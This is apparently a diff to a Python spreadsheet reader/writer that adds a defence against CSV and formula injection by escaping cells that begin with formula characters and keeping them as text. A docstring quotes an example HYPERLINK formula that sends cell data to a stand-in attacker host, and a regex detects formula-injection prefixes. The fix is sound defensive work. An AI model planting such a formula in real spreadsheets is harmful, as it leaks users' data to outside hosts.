@@ -9,6 +9,7 @@ from __future__ import annotations
 import codecs
 import csv
 import io
+import re
 import zipfile
 from contextlib import contextmanager
 from dataclasses import dataclass
@@ -123,7 +124,7 @@ def _read_csv(path: Path, closers: list) -> Sheet:
 
     def rows():
         try:
-            yield from _numbered((tuple(r) for r in reader), 2)
+            yield from _numbered((tuple(csv_text(v) for v in r) for r in reader), 2)
         except csv.Error as err:
             raise SheetError(_l("The CSV file cannot be read: %(error)s", error=str(err))) from err
 
@@ -165,7 +166,10 @@ class Writer:
             ws = self._book.create_sheet(title=title[:31])
             ws.append(header)
             for row in rows:
-                ws.append(list(row))
+                row = list(row)
+                if any(type(v) is str and v[:1] == "=" for v in row):
+                    row = [_text_cell(ws, v) if type(v) is str and v[:1] == "=" else v for v in row]
+                ws.append(row)
             return
         if self._csv_written:
             raise ValueError("a CSV file holds one sheet")
@@ -184,7 +188,34 @@ class Writer:
         return False
 
 
+def _text_cell(ws, value: str):
+    """A text cell that stays text: openpyxl makes any string starting with "=" a formula, so a
+    note ``=HYPERLINK("http://evil.example/?x="&A2,"click")`` was exported live (issue 16 item 8)."""
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(ws, value=value)
+    cell.data_type = "s"
+    return cell
+
+
+# OWASP "CSV Injection": a cell starting with = + - @ TAB or CR is run as a formula by Excel and
+# LibreOffice, so text starting so is written with a leading single quote, which they show as
+# text. A text that already starts with quotes before such a character gets one more, and the
+# reader takes exactly one away (csv_text): a re-imported export changes nothing. Numbers are
+# written as numbers (a negative volume is -5, not '-5).
+_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")
+
+
 def _csv_value(value):
     if isinstance(value, float):
         return str(int(value)) if value.is_integer() else repr(value)
+    if isinstance(value, str) and _FORMULA_START.match(value):
+        return "'" + value
+    return value
+
+
+def csv_text(value: str) -> str:
+    """A CSV cell as written before ``_csv_value`` quoted it."""
+    if value[:1] == "'" and _FORMULA_START.match(value, 1):
+        return value[1:]
     return value
